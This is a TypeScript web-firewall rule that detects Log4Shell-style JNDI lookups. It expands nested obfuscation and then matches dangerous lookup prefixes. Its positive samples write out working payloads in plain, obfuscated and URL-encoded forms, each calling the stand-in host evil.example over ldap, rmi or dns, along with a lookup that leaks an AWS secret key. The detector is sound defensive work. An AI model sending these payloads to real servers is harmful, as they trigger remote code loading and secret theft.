import type { InspectionTarget, WafRule } from '../waf.types';
import { EVERYWHERE } from './targets';

/**
 * Log4Shell-style lookups (CRS 944150-944152). Log4j expands nested lookups before it reads
 * the outer one, so `${${lower:j}ndi:...}` and `${${::-j}${env:X:-n}di:...}` both become
 * `${jndi:...}`. We do the same expansion (innermost first, bounded passes) and then look.
 */
const INNER_LOOKUP = /\$\{([^${}]{0,200})\}/g;
const MAX_PASSES = 12;
const DANGEROUS = /\$\{\s*(?:jndi|ctx|env|sys|java|main|bundle|docker|k8s|kubernetes|log4j|spring|web|sd|marker|map|jvmrunargs|base64|script|dns|ldap|rmi)\s*:/;
const JNDI_PROTOCOLS = /\$\{\s*jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http|https)\s*:/;

/** The value a lookup leaves behind: `lower:j` → j, `::-j` → j, `env:X:-n` → n, `date:'j'` → j. */
function expandLookup(body: string): string {
  const fallback = body.indexOf(':-');
  if (fallback >= 0) return body.slice(fallback + 2);
  const colon = body.indexOf(':');
  if (colon < 0) return body;
  const [kind, rest] = [body.slice(0, colon).trim(), body.slice(colon + 1)];
  if (kind === 'lower' || kind === 'upper') return rest;
  if (kind === 'date') return rest.replace(/'/g, '');
  return `\ue000${body}\ue001`;
}

/** Expands obfuscation lookups; real lookups (jndi:, env: without default) are kept in a marked form. */
export function expandLookups(text: string): string {
  let current = text;
  for (let pass = 0; pass < MAX_PASSES && current.includes('${'); pass++) {
    const next = current.replace(INNER_LOOKUP, (_, body: string) => expandLookup(body));
    if (next === current) break;
    current = next;
  }
  return current.replace(/\ue000/g, '${').replace(/\ue001/g, '}');
}

function hasJavaLookup(target: InspectionTarget): boolean {
  const text = target.variant('text');
  if (!text.includes('${') && !text.includes('$%7b')) return false;
  if (DANGEROUS.test(text)) return true;
  const expanded = expandLookups(text);
  return JNDI_PROTOCOLS.test(expanded) || DANGEROUS.test(expanded);
}

export const LOG4SHELL_RULES: readonly WafRule[] = [
  {
    id: 944150,
    attackClass: 'log4shell',
    paranoiaLevel: 1,
    severity: 'critical',
    description: 'Log4j lookup (${jndi:...}, ${env:...}), including nested ${lower:}/${::-} obfuscation',
    targets: EVERYWHERE,
    detect: hasJavaLookup,
    positives: [
      '${jndi:ldap://evil.example/a}',
      '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
      '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.example/a}',
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
      '${jNdI:lDaP://evil.example/a}',
      '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
      '${env:AWS_SECRET_ACCESS_KEY}',
      '${${upper:j}ndi:dns://evil.example}',
    ],
    negatives: ['$ {price}', 'costs ${amount} dollars', 'j n d i'],
  },
];
